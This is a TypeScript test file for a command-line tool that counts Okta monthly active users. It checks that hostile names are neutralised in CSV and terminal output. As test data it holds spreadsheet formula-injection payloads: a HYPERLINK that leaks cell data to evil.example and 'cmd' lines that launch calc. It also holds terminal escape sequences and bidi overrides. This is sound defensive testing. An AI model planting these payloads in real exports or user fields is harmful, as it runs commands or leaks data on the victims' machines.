/**
 * Names, logins and clients come from the org, and anyone who can set their own display name (or
 * sign in through a compromised app) chooses them. The built `okta-mau` must hand them on as text:
 * CSV cells that a spreadsheet would run as formulas are neutralised, and the table a terminal shows
 * carries no control character, escape sequence or bidirectional override, only visible escapes.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { generateMonth, startFakeOrg, type FakeOrg, type LogEvent } from '../fake-org';
import { buildCli, cliEnv, lastCompleteMonth, runCli } from './cli-harness';

// Everything a terminal acts on rather than shows, except the line breaks of the output itself.
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** The generated month, with the given users' names (and logins) replaced on every event of theirs. */
function renamed(events: LogEvent[], names: ReadonlyMap<string, { displayName: string; login?: string }>): LogEvent[] {
  return events.map((e) => {
    const to = names.get(e.actor.id);
    if (!to) return e;
    return { ...e, actor: { ...e.actor, displayName: to.displayName, ...(to.login !== undefined ? { alternateId: to.login } : {}) } };
  });
}

describe('okta-mau with hostile names from the org', function () {
  this.timeout(60_000);
  const month = lastCompleteMonth();
  const gen = generateMonth({ month, seed: 41, users: 40, sessions: 300 });
  const active = Object.keys(gen.truth.users);
  let org: FakeOrg;
  let work: string;

  before(() => {
    buildCli();
    work = mkdtempSync(join(tmpdir(), 'okta-mau-names-'));
  });
  afterEach(() => org?.close());
  after(() => rmSync(work, { recursive: true, force: true }));

  describe('--format csv', () => {
    // Each leading character a spreadsheet treats as the start of a formula (OWASP's list, and the
    // full-width forms some spreadsheets normalise).
    const formulas = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
      "+cmd|' /C calc'!A0",
      '-2+3+cmd|\' /C calc\'!A0',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\uff1d1+1',
    ];

    it('prefixes every cell that would start a formula with a quote, and leaves other names alone', async () => {
      const names = new Map<string, { displayName: string; login?: string }>(formulas.map((n, i) => [active[i], { displayName: n }]));
      names.set(active[formulas.length], { displayName: 'Plain Name', login: '=1+2@example.com' });
      org = await startFakeOrg({ events: renamed(gen.events, names) });
      const r = await runCli(['count', '--org-url', org.url, '--month', month, '--format', 'csv', '--no-cache'], cliEnv({ OKTA_API_TOKEN: org.token }));
      assert.equal(r.code, 0, r.stderr);
      const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
      assert.equal(rows.length, gen.truth.mau);
      const byId = new Map(rows.map((row) => [row.id, row]));
      // A leading tab or carriage return becomes a visible escape (the cell may go to a terminal), which no
      // spreadsheet runs; every other formula gets the quote.
      const shown = (name: string) => (name[0] === '\t' ? `\\x09${name.slice(1)}` : name[0] === '\r' ? `\\x0d${name.slice(1)}` : `'${name}`);
      formulas.forEach((name, i) => assert.equal(byId.get(active[i])?.displayName, shown(name), JSON.stringify(name)));
      assert.equal(byId.get(active[formulas.length])?.login, "'=1+2@example.com");
      assert.equal(byId.get(active[formulas.length])?.displayName, 'Plain Name');
      const plain = rows.find((row) => !names.has(row.id))!;
      assert.equal(plain.displayName, gen.events.find((e) => e.actor.id === plain.id)!.actor.displayName, 'an ordinary name is unchanged');
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          assert.ok(!/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell), `${column} of ${row.id} starts a formula: ${JSON.stringify(cell)}`);
        }
      }
    });
  });

  describe('--format table and history', () => {
    const hostile = [
      '\u001b[2J\u001b[HScreen cleared',
      '\u001b]0;owned\u0007Title changed',
      'Hidden \u001b[8msecret\u001b[0m text',
      '\u001b]8;;https://evil.example\u001b\\Click\u001b]8;;\u001b\\',
      'Bidi \u202eevil\u202c override',
      'Back\bspace and\rcarriage return',
      'C1 \u009b31m CSI',
      'Line\u2028separator',
    ];

    it('shows control characters in names and logins as visible escapes, never raw', async () => {
      const names = new Map<string, { displayName: string; login?: string }>(hostile.map((n, i) => [active[i], { displayName: n }]));
      names.set(active[hostile.length], { displayName: 'Plain Name', login: 'evil\u001b[31m@example.com' });
      org = await startFakeOrg({ events: renamed(gen.events, names) });
      const r = await runCli(['count', '--org-url', org.url, '--month', month, '--all', '--no-cache'], cliEnv({ OKTA_API_TOKEN: org.token }));
      assert.equal(r.code, 0, r.stderr);
      const bad = TERMINAL_CONTROL.exec(r.stdout);
      assert.equal(bad, null, `a raw U+${bad?.[0].charCodeAt(0).toString(16).padStart(4, '0')} reached the terminal`);
      for (const shown of ['\\x1b[2J\\x1b[HScreen cleared', '\\x1b]0;owned\\x07Title changed', 'Bidi \\u202eevil\\u202c override', 'Back\\x08space and\\x0dcarriage return', 'C1 \\x9b31m CSI', 'Line\\u2028separator', 'evil\\x1b[31m@example.com']) {
        assert.ok(r.stdout.includes(shown), `the table shows ${shown}`);
      }
      const lines = r.stdout.split('\n').filter((l) => /^ *\d+ {2}/.test(l));
      assert.equal(lines.length, gen.truth.mau, 'one line per user: no name broke a line');
    });

    it('shows a cache file\'s damaged or foreign values in history warnings without escape sequences', async () => {
      org = await startFakeOrg({ events: gen.events });
      const cache = join(work, 'cache');
      const env = cliEnv({ OKTA_API_TOKEN: org.token, OKTA_MAU_CACHE_DIR: cache });
      const counted = await runCli(['count', '--org-url', org.url, '--month', month, '--format', 'json'], env);
      assert.equal(counted.code, 0, counted.stderr);
      const orgDir = join(cache, `127.0.0.1_${new URL(org.url).port}`);
      mkdirSync(orgDir, { recursive: true });
      const doc = JSON.parse(JSON.stringify({ formatVersion: 1, report: JSON.parse(counted.stdout) }));
      writeFileSync(join(orgDir, '2020-01.json'), JSON.stringify({ ...doc, report: { ...doc.report, month: '2020-01', countedAt: '2020-02-01\u001b]0;owned\u0007' } }));
      writeFileSync(join(orgDir, '2020-02.json'), JSON.stringify({ ...doc, report: { ...doc.report, orgUrl: 'https://evil\u001b[2J.example' } }));
      writeFileSync(join(orgDir, '2020-03.json'), JSON.stringify({ ...doc, report: { ...doc.report, month: '\u001b[2J2020-03' } }));
      const r = await runCli(['history', '--org-url', org.url], env);
      assert.equal(r.code, 0, r.stderr);
      for (const [what, text] of [['stdout', r.stdout], ['stderr', r.stderr]]) {
        const bad = TERMINAL_CONTROL.exec(text);
        assert.equal(bad, null, `a raw U+${bad?.[0].charCodeAt(0).toString(16).padStart(4, '0')} reached the terminal on ${what}`);
      }
      const warnings = r.stderr.trimEnd().split('\n');
      assert.equal(warnings.length, 3, r.stderr);
      assert.match(warnings[0], /2020-01\.json: it holds a report whose countedAt is damaged$/);
      assert.match(warnings[1], /2020-02\.json: it holds a count of another org \(https:\/\/evil\\x1b\[2J\.example\)$/);
      assert.match(warnings[2], /2020-03\.json: it holds a count of another month \(\\x1b\[2J2020-03\)$/);
      assert.match(r.stdout, new RegExp(`^${month} `, 'm'), 'the good month is listed');
    });
  });
});
